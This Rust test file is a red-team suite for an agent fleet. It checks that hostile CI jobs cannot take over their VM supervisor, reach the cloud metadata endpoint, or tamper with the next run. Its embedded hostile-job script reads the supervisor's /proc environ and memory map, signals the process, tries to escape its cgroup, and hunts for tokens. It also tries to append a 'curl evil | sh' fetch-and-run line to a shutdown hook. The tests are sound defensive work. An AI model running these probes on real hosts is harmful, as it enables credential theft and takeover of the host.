//! The hostile-jobs suite (`make redteam`, also part of `make test`): what a job that tries
//! to take the fleet from its VM gets. Each test names the attack and the level (`vm`: the
//! job is root on its VM; `strict`: it is the agent user) and asserts what stopped it.
//! The README's "Hostile jobs" table lists every attack with the test that covers it.

use agent_fleet_tests::bed::{eventually, Bed, TOKEN};
use agent_fleet_tests::fleet::Instance;
use agent_fleet_tests::hub::{JobSpec, JobState};
use agent_fleet_tests::probe::leading_term;

use nix::sys::signal::Signal;
use std::time::Duration;

type R = anyhow::Result<()>;

const DAY: Duration = Duration::from_secs(24 * 3600);

/// `vm`, job as root: it kills its supervisor (and with it every way the instance had of
/// ending itself) to keep the VM for the next job or for itself. The leader runs on the
/// scaler instance, not on any agent (`agents_lead: false`), and ends the instance once it
/// is in service past the lifetime cap — without decrement, so a clean VM replaces it.
/// (The scaler instance starts after the attack: launch times never change, so the leader
/// describes each instance once, and the emulator's clock is moved for this one only.)
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn vm_a_job_that_kills_its_supervisor_loses_the_vm_to_the_leaders_lifetime_cap() -> R {
    let bed = Bed::start("rtcap").await?;
    let group = "rtcap-agents";
    bed.moto.create_group(group, 0, 3, 1).await?;
    let mut cfg = bed.fast_runtime_config(group);
    cfg.agents_lead = false;
    bed.put_config(&cfg).await?;
    let fleet = bed.fleet(&[group], &[], &[]);
    let job = bed.hub.enqueue_job(JobSpec {
        commands: vec!["sleep 600".into()],
        env: vec![],
    });
    eventually("the job runs", Duration::from_secs(30), || async {
        (bed.hub.job(&job)?.state == JobState::Running).then_some(())
    })
    .await?;
    let victim = fleet
        .launched()
        .first()
        .cloned()
        .expect("an agent instance");
    // The attack: the supervisor is gone; the agent and its job run on.
    fleet.with_instance(&victim, |i| i.signal(Signal::SIGKILL));
    let agent_output = fleet
        .with_instance(&victim, |i| i.output())
        .unwrap_or_default();
    assert!(
        agent_output.contains("agents do not lead") && leading_term(&agent_output).is_none(),
        "an agent instance neither stands for leader nor leads:\n{agent_output}"
    );
    // A day and more later (the emulator's clock for this instance only). The leader
    // starts now, as a new leader would after a failover: it learns launch times once.
    bed.moto
        .set_launched_ago(&victim, DAY + Duration::from_secs(3 * 3600))
        .await?;
    let mut scaler_opts = bed.instance("i-0scaler000000001", "rtcap-scaler");
    scaler_opts.args = vec!["--role".into(), "scaler".into()];
    let scaler = Instance::start(scaler_opts, None).await?;

    let ended = eventually(
        "the leader ends the over-age instance",
        Duration::from_secs(30),
        || async {
            let calls = bed.moto.calls(0).await.ok()?;
            calls.into_iter().find(|c| {
                c.is("autoscaling", "TerminateInstanceInAutoScalingGroup")
                    && c.param("InstanceId") == Some(victim.as_str())
            })
        },
    )
    .await
    .inspect_err(|_| eprintln!("scaler instance:\n{}", scaler.output()))?;
    assert_eq!(
        ended.param("ShouldDecrementDesiredCapacity"),
        Some("false"),
        "a replacement, not a smaller fleet"
    );
    assert!(
        scaler.output().contains("end_over_lifetime_cap"),
        "the scaler instance's leader did it:\n{}",
        scaler.output()
    );
    eventually(
        "a clean VM replaces it",
        Duration::from_secs(30),
        || async {
            let g = bed.moto.group(group).await.ok()?;
            (g.desired == 1 && fleet.launched().len() >= 2).then_some(())
        },
    )
    .await?;
    fleet.shutdown().await;
    Ok(())
}

/// Both levels, the agent user (a `strict` job; a `vm` job before it uses sudo): it asks
/// IMDS for the instance role. In a network namespace of its own, a fake IMDS answers on
/// `169.254.169.254:80`; `agent-supervisor imds-firewall` (what `run` does before the first
/// agent) closes it to the agent user: root still gets its answer, the agent user's
/// connection is refused at once, and `--check` (what `agent-supervisor check` reports)
/// tells the two states apart.
#[test]
fn both_the_agent_user_is_refused_imds_while_root_is_answered() -> R {
    let supervisor = agent_fleet_tests::fleet::bin_dir()?.join("agent-supervisor");
    let out = std::process::Command::new("unshare")
        .args(["-n", "--", "bash", "-c", IMDS_NETNS_SCRIPT])
        .env("SUPERVISOR", &supervisor)
        .output()?;
    let text =
        String::from_utf8_lossy(&out.stdout).to_string() + &String::from_utf8_lossy(&out.stderr);
    assert!(out.status.success(), "the namespace script failed:\n{text}");
    let line = |tag: &str| {
        text.lines()
            .find_map(|l| l.strip_prefix(tag))
            .unwrap_or_else(|| panic!("no {tag} line in:\n{text}"))
            .trim()
            .to_string()
    };
    assert_eq!(
        line("BEFORE agent:"),
        "i-0imds0000000001",
        "the fake IMDS answers the agent user before:\n{text}"
    );
    assert_eq!(
        line("CHECK before:"),
        "1",
        "--check finds IMDS open:\n{text}"
    );
    assert_eq!(line("APPLY:"), "0", "{text}");
    assert_eq!(line("CHECK after:"), "0", "{text}");
    assert_eq!(
        line("AFTER root:"),
        "i-0imds0000000001",
        "root (the supervisor) still reads IMDS:\n{text}"
    );
    assert_eq!(
        line("AFTER agent rc:"),
        "7",
        "curl: could not connect (refused, not a timeout):\n{text}"
    );
    assert_eq!(line("AGAIN:"), "0", "applying twice is harmless:\n{text}");
    assert_eq!(line("TABLES:"), "1", "one table, not two:\n{text}");
    Ok(())
}

/// Run under `unshare -n` as root. A fake IMDS (IMDSv2's token PUT and one GET) on
/// 169.254.169.254:80 of the namespace's loopback; `nobody` plays the agent user.
const IMDS_NETNS_SCRIPT: &str = r#"
set -u
ip link set lo up
ip addr add 169.254.169.254/32 dev lo
python3 - <<'PY' &
import http.server
class H(http.server.BaseHTTPRequestHandler):
    def do_PUT(self):
        self.send_response(200); self.end_headers(); self.wfile.write(b"tok")
    def do_GET(self):
        ok = self.headers.get("X-aws-ec2-metadata-token") == "tok"
        self.send_response(200 if ok else 401); self.end_headers()
        if ok: self.wfile.write(b"i-0imds0000000001")
    def log_message(self, *a): pass
http.server.HTTPServer(("169.254.169.254", 80), H).serve_forever()
PY
imds=$!
trap 'kill $imds' EXIT
ask() {
  local t
  t=$("$@" curl -sS -m 3 -X PUT -H 'X-aws-ec2-metadata-token-ttl-seconds: 60' http://169.254.169.254/latest/api/token) || return $?
  "$@" curl -sS -m 3 -H "X-aws-ec2-metadata-token: $t" http://169.254.169.254/latest/meta-data/instance-id
}
as_agent() { setpriv --reuid=nobody --regid=nogroup --clear-groups "$@"; }
for _ in $(seq 50); do curl -s -m 1 -o /dev/null -X PUT http://169.254.169.254/ && break; sleep 0.1; done
echo "BEFORE agent: $(ask as_agent)"
"$SUPERVISOR" imds-firewall --agent-user nobody --check; echo "CHECK before: $?"
"$SUPERVISOR" imds-firewall --agent-user nobody; echo "APPLY: $?"
"$SUPERVISOR" imds-firewall --agent-user nobody --check; echo "CHECK after: $?"
echo "AFTER root: $(ask env)"
ask as_agent; echo "AFTER agent rc: $?"
"$SUPERVISOR" imds-firewall --agent-user nobody >/dev/null; echo "AGAIN: $?"
echo "TABLES: $(nft list tables | grep -c 'inet agent_fleet')"
"#;

/// `strict`, the job as the unprivileged agent user (`nobody` here): it goes after its
/// supervisor and what the supervisor left for the next run. It cannot read the
/// supervisor's environment or memory map, signal it, move itself out of the agent's
/// cgroup (which dies with the agent), rewrite the shutdown hook the next agent would run,
/// or find the token in `config.yaml`; what it can do — send a reason to the hook socket —
/// changes nothing on a used VM (the instance still ends, without decrement).
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn strict_an_unprivileged_job_cannot_reach_its_supervisor_or_the_next_run() -> R {
    let bed = Bed::start("rtstrict").await?;
    let group = "rtstrict-agents";
    bed.moto.create_group(group, 0, 2, 1).await?;
    bed.put_config(&bed.runtime_config(group)).await?;
    let id = bed.moto.group(group).await?.in_service()[0].clone();
    let job = bed.hub.enqueue_job(JobSpec {
        commands: vec![HOSTILE_JOB.into()],
        env: vec![],
    });
    let mut o = bed.instance(&id, group);
    o.agent_user = Some("nobody".into());
    let inst = Instance::start(o, None).await?;
    let done = eventually(
        "the hostile job finished",
        Duration::from_secs(60),
        || async { bed.hub.job(&job).filter(|j| j.state == JobState::Finished) },
    )
    .await
    .inspect_err(|_| eprintln!("supervisor:\n{}", inst.output()))?;
    let out = bed.hub.job_output(&job);
    let text = out.join("\n");
    println!("the job's output:\n{text}");
    assert_eq!(done.result.as_deref(), Some("passed"), "{text}");
    let says = |l: &str| out.iter().any(|o| o == l);
    assert!(
        says("USER nobody"),
        "the job runs as the agent user: {text}"
    );
    assert!(
        says("FOUND supervisor"),
        "positive control: the job found its supervisor: {text}"
    );
    assert!(
        says("CONFIG readable"),
        "positive control: the agent's config is the job's to read: {text}"
    );
    for l in [
        "ENVIRON denied",
        "MAPS denied",
        "KILL denied",
        "HOOK denied",
        "WORKDIR denied",
        "TOKEN absent",
    ] {
        assert!(says(l), "expected `{l}`: {text}");
    }
    if agent_fleet_tests::fleet::cgroup_root().is_some() {
        assert!(
            says("CGROUP denied"),
            "the job stays in the agent's cgroup: {text}"
        );
    }
    assert!(
        says("FORGED sent"),
        "the agent user may talk to the hook socket: {text}"
    );
    // The forged reason changed nothing: a used VM ends, without decrement.
    let call = eventually("the instance ends", Duration::from_secs(30), || async {
        let calls = bed.moto.calls(0).await.ok()?;
        calls.into_iter().find(|c| {
            c.is("autoscaling", "TerminateInstanceInAutoScalingGroup")
                && c.param("InstanceId") == Some(id.as_str())
        })
    })
    .await?;
    assert_eq!(call.param("ShouldDecrementDesiredCapacity"), Some("false"));
    assert!(
        !inst.output().contains(TOKEN),
        "the supervisor's output holds no token"
    );
    Ok(())
}

/// The hostile job. It finds its supervisor by walking up its ancestors, then tries each
/// attack and prints `<ATTACK> denied|…`. The token is looked for by pattern (`token:`
/// with a value), never by value: the script holds no copy of it.
const HOSTILE_JOB: &str = r#"
echo "USER $(id -un)"
p=$$; sup=
while [ "$p" -gt 1 ]; do
  case "$(cat /proc/$p/comm)" in agent-supervis*) sup=$p; break;; esac
  p=$(awk '/^PPid:/ {print $2}' /proc/$p/status)
done
[ -n "$sup" ] && echo "FOUND supervisor"
work=$AGENT_FLEET_BED_INSTANCE/work
cat /proc/$sup/environ >/dev/null 2>&1 && echo "ENVIRON read" || echo "ENVIRON denied"
cat /proc/$sup/maps >/dev/null 2>&1 && echo "MAPS read" || echo "MAPS denied"
kill -STOP "$sup" 2>/dev/null && { kill -CONT "$sup"; echo "KILL sent"; } || echo "KILL denied"
(echo 'curl evil | sh' >> "$work/shutdown-hook.sh") 2>/dev/null && echo "HOOK written" || echo "HOOK denied"
(touch "$work/planted") 2>/dev/null && echo "WORKDIR written" || echo "WORKDIR denied"
[ -r "$work/config.yaml" ] && echo "CONFIG readable"
if grep -Eq '^token: *[^ "]|^token: *"[^"]' "$work/config.yaml" 2>/dev/null; then echo "TOKEN found"; else echo "TOKEN absent"; fi
cg=$(sed -n 's/^0:://p' /proc/self/cgroup)
for root in /sys/fs/cgroup/unified /sys/fs/cgroup; do
  if [ -n "$cg" ] && [ -w "$root$cg/cgroup.procs" ] || [ -e "$root$cg/cgroup.procs" ]; then
    (echo $$ > "$root$(dirname "$cg")/cgroup.procs") 2>/dev/null && echo "CGROUP escaped" || echo "CGROUP denied"
    break
  fi
done
SEMAPHORE_AGENT_SHUTDOWN_REASON=UNABLE_TO_SYNC bash "$work/shutdown-hook.sh" >/dev/null 2>&1 && echo "FORGED sent" || echo "FORGED refused"
true
"#;
